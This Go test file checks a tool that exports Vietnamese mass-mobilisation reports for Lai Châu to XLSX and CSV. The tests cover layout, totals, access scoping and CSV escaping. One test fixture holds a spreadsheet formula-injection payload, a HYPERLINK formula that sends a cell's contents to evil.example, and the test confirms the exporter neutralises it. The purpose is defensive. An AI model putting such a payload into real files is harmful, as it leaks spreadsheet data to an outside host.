package files

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"danvan/flows"
	"danvan/internal/filetest"
)

func TestMakerXLSX(t *testing.T) {
	m, src := mustMaker(t)
	city := flows.Person{ID: "tg:8", Scopes: []string{"laichau"}}
	f := mustFile(t, m, city, flows.Attachment{Kind: flows.SheetFile, Period: "2026-Q1"})
	if f.Kind != flows.Document || f.Name != "bao-cao-2026-Q1.xlsx" {
		t.Errorf("file: got %s %s, want a document bao-cao-2026-Q1.xlsx", f.Kind, f.Name)
	}
	if got, want := src.Calls(), []string{"Submissions", "People"}; !reflect.DeepEqual(got, want) {
		t.Errorf("source calls: got %v, want %v", got, want)
	}
	x := filetest.MustOpenXLSX(t, f.Data)
	if got, want := x.GetSheetList(), []string{"Tổng hợp", "Sinh hoạt & hội viên", "Hoạt động"}; !reflect.DeepEqual(got, want) {
		t.Errorf("sheets: got %q, want %q", got, want)
	}
	sh := "Sinh hoạt & hội viên"
	rows, _ := x.GetRows(sh)
	top := [][]string{{"TỈNH ỦY LAI CHÂU"}, {"BAN TUYÊN GIÁO VÀ DÂN VẬN"},
		{"Báo cáo công tác dân vận — Quý I năm 2026 — Thành phố Lai Châu"}, {"Sinh hoạt & hội viên"}, nil}
	if !reflect.DeepEqual(rows[:5], top) {
		t.Errorf("top rows: got %q, want %q", rows[:5], top)
	}
	wantHead := []string{"STT", "Phường/Xã", "Tổ chức", "Đơn vị", "Số quần chúng trong diện tập hợp", "Số đoàn viên, hội viên",
		"Số đoàn viên, hội viên kết nạp mới trong kỳ", "Số đoàn viên, hội viên tham gia sinh hoạt thường xuyên",
		"1.5 Tỷ lệ tập hợp quần chúng vào tổ chức", "1.6 Tỷ lệ đoàn viên, hội viên sinh hoạt thường xuyên",
		"Trạng thái", "Người gửi", "Thời gian gửi", "Phiên bản", "Mã tham chiếu", "Lý do trả lại"}
	if !reflect.DeepEqual(rows[5], wantHead) {
		t.Errorf("header: got %q, want %q", rows[5], wantHead)
	}
	// 5 top rows, the header, 41 units, a subtotal for each of the 8 places, the total.
	if len(rows) != 56 {
		t.Errorf("rows: got %d, want 56", len(rows))
	}
	cases := []struct {
		unit string
		want []string
	}{
		{"Hội LHPN phường Tân Phong", []string{"9", "Phường Tân Phong", "Hội LHPN", "Hội LHPN phường Tân Phong", "1,000", "900", "12", "850",
			"90.0%", "94.4%", "đúng hạn", "Lò Thị Mai", "10/03/2026 09:00", "1"}},
		{"Đoàn phường Tân Phong", []string{"8", "Phường Tân Phong", "Đoàn Thanh niên", "Đoàn phường Tân Phong", "500", "400", "3", "390",
			"80.0%", "97.5%", "trễ", "Lò Thị Mai", "20/03/2026 09:00", "1"}},
		{"Hội LHPN phường Đoàn Kết", []string{"14", "Phường Đoàn Kết", "Hội LHPN", "Hội LHPN phường Đoàn Kết", "0", "0", "0", "0",
			"—", "—", "đúng hạn", "Lò Thị Mai", "11/03/2026 09:00", "1"}},
		{"Hội Cựu chiến binh phường Quyết Thắng", []string{"21", "Phường Quyết Thắng", "Hội Cựu chiến binh", "Hội Cựu chiến binh phường Quyết Thắng",
			"300", "290", "1", "280", "96.7%", "96.6%", "trả lại", "Lò Thị Mai", "12/03/2026 09:00", "1"}},
		{"Hội Nông dân xã Nậm Loỏng", []string{"40", "Xã Nậm Loỏng", "Hội Nông dân", "Hội Nông dân xã Nậm Loỏng", "", "", "", "", "", "", "chưa nộp"}},
	}
	for _, c := range cases {
		got := filetest.FindRow(t, x, sh, c.unit)
		if len(got) > len(c.want) && c.want[len(c.want)-1] != "chưa nộp" {
			got = got[:len(c.want)] // the reference is random-looking; checked below
		}
		if !reflect.DeepEqual(got, c.want) {
			t.Errorf("row %s: got %q, want %q", c.unit, got, c.want)
		}
	}
	// Typed cells: figures are numbers, the time a date, the rate a fraction shown as a percent.
	row := filetest.RowOf(t, x, sh, "Hội LHPN phường Tân Phong")
	ref := func(col string) string { return col + strconv.Itoa(row) }
	for _, col := range []string{"A", "E", "I", "M", "N"} {
		if typ, _ := x.GetCellType(sh, ref(col)); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
			t.Errorf("cell %s: got type %v, want a number", ref(col), typ)
		}
	}
	raw := func(cell string) string {
		v, _ := x.GetCellValue(sh, cell, excelize.Options{RawCellValue: true})
		return v
	}
	if got := raw(ref("E")); got != "1000" {
		t.Errorf("eligible raw: got %q, want 1000", got)
	}
	if got := raw(ref("I")); got != "0.9" {
		t.Errorf("rate raw: got %q, want 0.9", got)
	}
	serial, _ := strconv.ParseFloat(raw(ref("M")), 64)
	at, err := excelize.ExcelDateToTime(serial, false)
	if want := time.Date(2026, 3, 10, 9, 0, 0, 0, time.UTC); err != nil || !at.Equal(want) {
		t.Errorf("date: got %v %v, want %v (Vietnam wall time)", at, err, want)
	}
	k := flows.Key{Unit: "tanphong-phunu", Period: "2026-Q1", Form: "membership"}
	if got, want := filetest.MustCell(t, x, sh, ref("O")), src.subs[k].Ref; got != want {
		t.Errorf("ref: got %q, want %q", got, want)
	}
	if got := filetest.MustCell(t, x, sh, "P"+strconv.Itoa(filetest.RowOf(t, x, sh, "Hội Cựu chiến binh phường Quyết Thắng"))); got != "Số hội viên chưa khớp" {
		t.Errorf("reason: got %q, want the return's reason", got)
	}
	checkTotals(t, x, sh)
	checkPrintSetup(t, x, sh, 6)
	checkSummary(t, x)
	checkNoEmoji(t, x)
}

// checkTotals checks the subtotal of Tân Phong and the total: formulas over the rows above that
// leave returned reports out, as the summary does, their values cached.
func checkTotals(t *testing.T, x *excelize.File, sh string) {
	t.Helper()
	rows, _ := x.GetRows(sh)
	want := map[int][]string{
		19: {"", "Phường Tân Phong", "", "Cộng", "1,500", "1,300", "15", "1,240", "86.7%", "95.4%", "đã nộp 2/5"},
		31: {"", "Phường Quyết Thắng", "", "Cộng", "0", "0", "0", "0", "", "", "đã nộp 0/5"},
		56: {"", "", "", "Tổng cộng", "1,500", "1,300", "15", "1,240", "86.7%", "95.4%", "đã nộp 3/41"},
	}
	for n, w := range want {
		if got := rows[n-1]; !reflect.DeepEqual(got, w) {
			t.Errorf("row %d: got %q, want %q", n, got, w)
		}
	}
	formulas := map[string]string{
		"E19": `SUMIFS(E14:E18,K14:K18,"<>trả lại")`,
		"E56": `SUMIFS(E7:E55,D7:D55,"<>Cộng",K7:K55,"<>trả lại")`,
		"I19": `IF(E19=0,"",F19/E19)`,
		"J56": `IF(F56=0,"",H56/F56)`,
	}
	for c, w := range formulas {
		if got, err := x.GetCellFormula(sh, c); err != nil || got != w {
			t.Errorf("formula %s: got %q %v, want %q", c, got, err, w)
		}
	}
	if st, _ := x.GetCellStyle(sh, "E56"); st == 0 {
		t.Errorf("total style: got the default, want bold")
	}
}

// checkPrintSetup checks sh prints on A4 landscape, one page wide, row head on every page, and
// that the header row is frozen and filtered.
func checkPrintSetup(t *testing.T, x *excelize.File, sh string, head int) {
	t.Helper()
	pl, err := x.GetPageLayout(sh)
	if err != nil || pl.Size == nil || *pl.Size != 9 || *pl.Orientation != "landscape" || *pl.FitToWidth != 1 || *pl.FitToHeight != 0 {
		t.Errorf("page layout: got %+v %v, want A4 (9) landscape, 1 page wide", pl, err)
	}
	if pr, err := x.GetSheetProps(sh); err != nil || pr.FitToPage == nil || !*pr.FitToPage {
		t.Errorf("fit to page: got %+v %v, want set", pr, err)
	}
	titles, filter := "", ""
	for _, d := range x.GetDefinedName() {
		if d.Scope != sh {
			continue
		}
		switch d.Name {
		case "_xlnm.Print_Titles":
			titles = d.RefersTo
		case "_xlnm._FilterDatabase":
			filter = d.RefersTo
		}
	}
	if want := fmt.Sprintf("'%s'!$%d:$%d", sh, head, head); titles != want {
		t.Errorf("print titles: got %q, want %q", titles, want)
	}
	if sh != "Tổng hợp" && !strings.HasPrefix(filter, fmt.Sprintf("'%s'!$A$%d:", sh, head)) {
		t.Errorf("filter: got %q, want one from the header row %d", filter, head)
	}
	if sh == "Tổng hợp" {
		return
	}
	panes, err := x.GetPanes(sh)
	if err != nil || !panes.Freeze || panes.YSplit != head {
		t.Errorf("panes: got %+v %v, want the rows to %d frozen", panes, err, head)
	}
	style, _ := x.GetCellStyle(sh, fmt.Sprintf("A%d", head))
	if st, err := x.GetStyle(style); err != nil || st.Font == nil || !st.Font.Bold {
		t.Errorf("header style: got %+v %v, want bold", st, err)
	}
}

// checkNoEmoji: a file says "Đạt" and "Chưa đạt"; the emoji are for chat.
func checkNoEmoji(t *testing.T, x *excelize.File) {
	t.Helper()
	for _, sh := range x.GetSheetList() {
		rows, _ := x.GetRows(sh)
		for i, r := range rows {
			for _, c := range r {
				if strings.ContainsAny(c, "✅⚠ℹ️📎") {
					t.Errorf("%s row %d: got %q, want no emoji in a file", sh, i+1, c)
				}
			}
		}
	}
}

// checkSummary checks indicators against targets and completeness on the summary sheet.
func checkSummary(t *testing.T, x *excelize.File) {
	t.Helper()
	rows, err := x.GetRows("Tổng hợp")
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[0]; len(got) != 1 || got[0] != "TỈNH ỦY LAI CHÂU" {
		t.Errorf("summary top: got %q, want the issuing body's superior", got)
	}
	checkPrintSetup(t, x, "Tổng hợp", 6)
	want := map[string][]string{
		"1.5":  {"1.5", "Tỷ lệ tập hợp quần chúng vào tổ chức", "86.7%", "> 85%", "Đạt", "1.300 / 1.500"},
		"1.6":  {"1.6", "Tỷ lệ đoàn viên, hội viên sinh hoạt thường xuyên", "95.4%", "> 90%", "Đạt", "1.240 / 1.300"},
		"1.4":  {"1.4", "Có mô hình “Dân vận khéo”", "100.0%", "> 95% đơn vị đạt ≥ 1", "Đạt", "1 / 1 đơn vị"},
		"1.4b": {"1.4b", "Có điển hình “Dân vận khéo” (01–02 mỗi đơn vị)", "100.0%", "> 95% đơn vị đạt ≥ 1", "Đạt", "1 / 1 đơn vị"},
		"kn":   {"kn", "Tỷ lệ ý kiến, kiến nghị đã giải quyết", "70.0%", "", "", "7 / 10"},
		"Sinh": {"Sinh hoạt & hội viên", "41", "3", "1", "37", "1"},
	}
	found := 0
	for _, r := range rows {
		if len(r) == 0 {
			continue
		}
		key := r[0]
		if strings.HasPrefix(key, "Sinh") {
			key = "Sinh"
		}
		if w, ok := want[key]; ok {
			found++
			if !reflect.DeepEqual(r, w) {
				t.Errorf("summary %s: got %q, want %q", key, r, w)
			}
		}
		if key == "1.7" {
			t.Errorf("summary: 1.7 listed in Q1, want it only in the Year")
		}
	}
	if found != len(want) {
		t.Errorf("summary rows found: got %d, want %d", found, len(want))
	}
}

func TestMakerCSV(t *testing.T) {
	m, _ := mustMaker(t)
	chair := flows.Person{ID: "tg:9", Scopes: []string{"laichau@phunu"}}
	f := mustFile(t, m, chair, flows.Attachment{Kind: flows.CSVFile, Period: "2026-Q1"})
	if f.Kind != flows.Document || f.MIME != "application/zip" {
		t.Errorf("file: got %s %s, want a zip document", f.Kind, f.MIME)
	}
	zf := filetest.MustUnzip(t, f.Data)
	var names []string
	for _, f := range zf {
		names = append(names, f.Name)
	}
	if want := []string{"membership.csv", "activities.csv"}; !reflect.DeepEqual(names, want) {
		t.Fatalf("zip: got %q, want %q", names, want)
	}
	data := zf[0].Data
	body, ok := bytes.CutPrefix(data, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatalf("csv: got %q…, want a UTF-8 BOM first", data[:min(8, len(data))])
	}
	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// The Women's Union chair sees the Women's Union of the city and of all 7 places.
	if len(recs) != 9 {
		t.Errorf("records: got %d, want 9 (header and 8 units)", len(recs))
	}
	want := []string{"Phường Tân Phong", "Hội LHPN", "Hội LHPN phường Tân Phong", "1000", "900", "12", "850", "90%", "94,4%",
		"đúng hạn", "Lò Thị Mai", "2026-03-10 09:00", "1"}
	for _, r := range recs {
		if r[2] == "Hội LHPN phường Tân Phong" && !reflect.DeepEqual(r[:len(want)], want) {
			t.Errorf("record: got %q, want %q", r[:len(want)], want)
		}
		if strings.Contains(r[1], "Đoàn") {
			t.Errorf("record %q: another organisation leaked to the Women's Union chair", r)
		}
	}
}

func TestSheetName(t *testing.T) {
	cases := []struct {
		in    string
		taken []string
		want  string
	}{
		{"Hoạt động", nil, "Hoạt động"},
		{"Thu/chi [quý]: a*b?", nil, "Thu-chi -quý-- a-b-"},
		{"Một tên biểu mẫu rất dài vượt quá ba mươi mốt ký tự", nil, "Một tên biểu mẫu rất dài vượ"},
		{"Tổng hợp", []string{"Tổng hợp"}, "Tổng hợp 2"},
	}
	for _, c := range cases {
		if got := sheetName(c.in, c.taken); got != c.want {
			t.Errorf("sheetName(%q): got %q, want %q", c.in, got, c.want)
		}
	}
}

// A text cell a spreadsheet would run as a formula (the sender's display name, a return's reason)
// is written with a leading quote, once control characters are gone (a tab is a space); numbers,
// percents and times stay as they are.
func TestCSVFormulaInjection(t *testing.T) {
	tbl := Table{
		FormID:    "membership",
		Headers:   []string{"Địa bàn", "Tổ chức", "Đơn vị", "Hội viên", "Tỷ lệ", "Trạng thái", "Người gửi", "Lúc", "Phiên bản", "Mã", "Lý do"},
		Questions: 1, Rates: 1,
		Rows: []Row{{
			Place: "Phường 1", Org: "@org", Unit: "-đơn vị",
			Values: []int64{12}, Has: []bool{true}, Rates: []float64{0.9}, RateOK: []bool{true},
			Status: "đúng hạn", By: `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`,
			At: time.Date(2026, 3, 10, 9, 0, 0, 0, time.UTC), Version: 2, Ref: "ABCDEF",
			Reason: "+1 thiếu số liệu\tvà \rhơn",
		}},
	}
	var buf bytes.Buffer
	if err := WriteTableCSV(&buf, tbl, flows.VI, ','); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte(utf8BOM)))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"Phường 1", "'@org", "'-đơn vị", "12", "90%", "đúng hạn",
		`'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`, "2026-03-10 09:00", "2", "ABCDEF", "'+1 thiếu số liệu và hơn"}
	if len(recs) != 2 || !reflect.DeepEqual(recs[1], want) {
		t.Errorf("records: got %q, want a row %q", recs, want)
	}
	for _, c := range []struct{ in, want string }{
		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", " x"}, {"\rx", "x"}, {"\t=1", "' =1"}, {" @x", "' @x"}, {"\u202E=1", "'=1"},
		{"Lò Thị Mai", "Lò Thị Mai"}, {"a=b", "a=b"}, {"", ""},
	} {
		if got := csvText(c.in); got != c.want {
			t.Errorf("csvText(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// The semicolon flavour is the same zip of CSVs for Vietnamese-locale Excel: fields split at
// semicolons, so a percent's decimal comma needs no quotes.
func TestMakerCSVSemicolon(t *testing.T) {
	m, _ := mustMaker(t)
	ward := flows.Person{ID: "tg:7", Scopes: []string{"tanphong"}}
	f := mustFile(t, m, ward, flows.Attachment{Kind: flows.CSVSemiFile, Period: "2026-Q1"})
	if f.MIME != "application/zip" || f.Name != "bao-cao-2026-Q1-csv.zip" {
		t.Errorf("file: got %s %s, want the zip of CSVs", f.MIME, f.Name)
	}
	body := bytes.TrimPrefix(filetest.MustUnzip(t, f.Data)[0].Data, []byte(utf8BOM))
	want := "Phường Tân Phong;Hội LHPN;Hội LHPN phường Tân Phong;1000;900;12;850;90%;94,4%;đúng hạn;Lò Thị Mai;2026-03-10 09:00;1;"
	if !bytes.Contains(body, []byte(want)) {
		t.Errorf("csv: got %q, want a line starting %q", body, want)
	}
	r := csv.NewReader(bytes.NewReader(body))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil || len(recs) != 6 || len(recs[0]) != 15 {
		t.Errorf("records: got %d (%v), want the header and 5 units of 15 fields", len(recs), err)
	}
}
